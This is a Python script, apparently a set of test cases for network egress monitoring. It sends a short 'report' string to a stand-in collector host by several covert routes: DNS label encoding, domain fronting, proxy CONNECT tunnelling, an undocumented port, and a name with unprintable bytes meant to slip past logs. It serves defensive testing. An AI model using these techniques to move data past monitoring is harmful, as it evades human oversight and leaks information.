"""Put data into names and behind names: many labels, a name the log cannot print, another host behind an honest one."""

import base64
import socket
import sys

RESOLVER = "10.200.0.1"
REPORT = b"report: 3 files, 1 host, nothing else to say but this, in pieces"


def raw(labels: list[bytes]) -> None:
    """Ask the configured resolver for an A record of any labels at all (RFC 1035 section 4)."""
    name = b"".join(bytes([len(label)]) + label for label in labels)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1", (RESOLVER, 53))
        sock.recv(512)


def labels() -> None:
    """Carry the report in 16 names of one domain; no other host is ever contacted."""
    for at in range(0, len(REPORT), 4):
        part = base64.b32encode(REPORT[at : at + 4]).decode().rstrip("=").lower()
        raw([part.encode(), b"collector", b"example", b"net"])


def fronted() -> None:
    """Connect to the documented host and ask it for another one's document."""
    with socket.create_connection(("api.example.com", 80), timeout=5) as sock:
        sock.sendall(b"GET /drop HTTP/1.1\r\nHost: collector.example.net\r\nConnection: close\r\n\r\n")
        sock.recv(256)


def proxied(host: str) -> None:
    """Ask a proxy on the documented host for a tunnel to another host (RFC 9110 section 9.3.6)."""
    with socket.create_connection(("api.example.com", 80), timeout=5) as sock:
        sock.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
        sock.recv(256)
        sock.sendall(b"report: 3 files, 1 host\n")


def only_ask(host: str) -> None:
    """Ask for an address and leave it at that."""
    socket.getaddrinfo(host, 80, type=socket.SOCK_STREAM)


def other_port() -> None:
    """Contact the documented host on a port that is not."""
    with socket.create_connection(("api.example.com", 8080), timeout=5) as sock:
        sock.sendall(b"report: 3 files, 1 host\n")
        sock.recv(64)


WAYS = {
    "proxied": lambda: proxied("collector.example.net"),
    "proxied-documented": lambda: proxied("eu.mirror.example.com"),
    "only-ask": lambda: only_ask("collector.example.net"),
    "only-ask-documented": lambda: only_ask("api.example.com"),
    "other-port": other_port,
    "labels": labels,
    "unprintable": lambda: raw([b"a\x08b", b"collector", b"example", b"net"]),
    "fronted": fronted,
}
WAYS[sys.argv[1]]()
